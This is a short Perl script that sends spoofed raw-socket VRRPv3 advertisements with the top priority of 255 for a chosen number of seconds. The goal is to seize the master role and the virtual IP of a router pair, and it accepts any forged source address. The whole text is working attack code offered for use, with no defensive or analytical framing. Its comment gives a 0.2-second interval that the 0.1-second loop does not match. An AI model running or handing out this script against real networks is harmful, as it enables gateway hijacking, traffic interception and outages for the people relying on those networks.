# Repeatedly claims to be the master of a pair (VRRP version 3, priority 255), as a neighbour that takes over a VIP would.
#   perl - SECONDS SOURCE TARGET VIP   in IPv4; SOURCE may be any address
use strict;
use warnings;
use Socket;
use Time::HiRes qw(sleep time);

my ($seconds, @words) = @ARGV;
my ($source, $target, $vip) = map { inet_aton($_) } @words;
my ($IPPROTO_RAW, $VRRP) = (255, 112);

sub sum {
  my $sum = 0;
  $sum += $_ for unpack 'n*', shift;
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  return ~$sum & 0xffff;
}
# Router 1, one address, an advertisement every 0.2 s.
my $said = sub { pack('CCCCnn', 0x31, 1, 255, 1, 20, shift) . $vip };
my $advert = $said->(sum($source . $target . pack('xCn', $VRRP, 12) . $said->(0)));
my $header = pack('CCnnnCCn', 0x45, 0xc0, 32, 1, 0, 255, $VRRP, 0) . $source . $target;

socket(my $socket, PF_INET, SOCK_RAW, $IPPROTO_RAW) or die "socket: $!\n";
for (my $end = time + $seconds; time < $end; sleep 0.1) {
  send($socket, $header . $advert, 0, pack_sockaddr_in(0, $target)) or die "send: $!\n";
}
